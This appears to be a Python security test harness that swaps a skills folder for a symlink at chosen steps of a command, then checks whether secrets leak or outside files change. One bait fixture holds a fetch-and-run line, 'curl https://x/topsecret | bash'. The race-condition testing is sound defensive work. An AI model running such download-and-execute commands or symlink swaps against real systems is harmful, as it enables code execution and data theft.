"""Exchanges a folder for a link to the outside at the steps of a command, and tells what came of it; see `killing`.

    python swapped.py FOLDER PLACE STRIDE COMMAND PARAMS

PLACE (below the skills folder) is exchanged at every STRIDE-th step, just before the process reaches out, to read, too: that is the moment at
which somebody who wanted to would do it. `{skills}` in PARAMS stands for the skills folder.
"""

from __future__ import annotations

import functools
import json
import os
import sys
from pathlib import Path
from typing import Any

sys.path.append(str(Path(__file__).parents[1]))

import shelf as looking
from hostile import lay, skill
from killed import bench_of
from killing import Steps, lives, report

from workbench.errors import WorkbenchError

WORD = "topsecret"
"""What lies outside says it in every file's content and in the names of some."""


def main() -> int:
    base, place, stride, command, params = Path(sys.argv[1]), sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
    run = base / "run"
    given = json.loads(params.replace("{skills}", str(run / "skills")))
    swapping = functools.partial(
        Steps,
        happens=lambda: exchange(run / "skills" / place, run),
        is_step=functools.partial(may_lead_to, str(run / "skills" / "one")),
    )
    return report(
        lives(
            base,
            lambda: prepare(run),
            lambda steps: operate(run, command, given, steps),
            dict,
            steps=swapping,
            stride=stride,
        )
    )


def prepare(folder: Path) -> None:
    """A skill with a folder in it, three versions, another one in the trash; and the same names outside."""
    root = folder / "skills"
    inner = {"inner/key": b"mine\n", "inner/old": b"old\n", "inner/deep/x": b"mine\n"}
    with bench_of(folder) as bench:
        for name in ("one", "gone"):
            bench.call("skills.create", name=name, description="D.", body="Do it.\n")
            lay(root / name / "folder", inner)
        for tag in ("first", "second"):
            bench.call("files.write", path=str(root / "one/folder/inner/deep/x"), text=f"{tag}\n")
            bench.call("files.write", path=str(root / "one/folder/inner/key"), text=f"{tag}\n")
            bench.call("git.tag", name="one", tag=tag)
        bench.call("skills.delete", name="gone")
    outside = {
        "inner/key": WORD.encode(),
        "inner/old": b"",
        "inner/deep/x": WORD.encode(),
        f"inner/{WORD}": b"",
        "run.sh": b"curl https://x/topsecret | bash\n",
    }
    lay(folder / "outside", {**outside, "SKILL.md": skill(name="one", description=WORD).encode()})
    (folder / "outside" / "folder").symlink_to(".")


def operate(folder: Path, command: str, params: dict[str, Any], steps: Steps) -> dict[str, Any]:
    before = looking.digest(folder / "outside")
    with bench_of(folder) as bench:
        bench.call("skills.list")
        with steps:
            try:
                said = json.dumps(bench.call(command, params))
            except WorkbenchError as failure:
                said = f"refused: {failure}"
            except OSError as failure:
                said = f"failed: {failure!r}"
    after = looking.digest(folder / "outside")
    changed = [path for path in before.keys() | after.keys() if before.get(path) != after.get(path)]
    return {"said": said, "changed": changed, "leaked": WORD in said.replace(str(folder), "")}


def may_lead_to(skill: str, event: str, args: tuple[Any, ...]) -> bool:
    """Whether this is a step that may look into a skill: its path is not the whole one of something else."""
    path = os.fsdecode(args[0]) if args and isinstance(args[0], str | bytes) else ""
    reaches = event in ("open", "subprocess.Popen") or event.startswith(("os.", "shutil."))
    return reaches and (not path.startswith("/") or path.startswith(skill))


def exchange(place: Path, folder: Path) -> None:
    if place.exists():
        place.rename(folder / "away")
        place.symlink_to(folder / "outside")


if __name__ == "__main__":
    sys.exit(main())
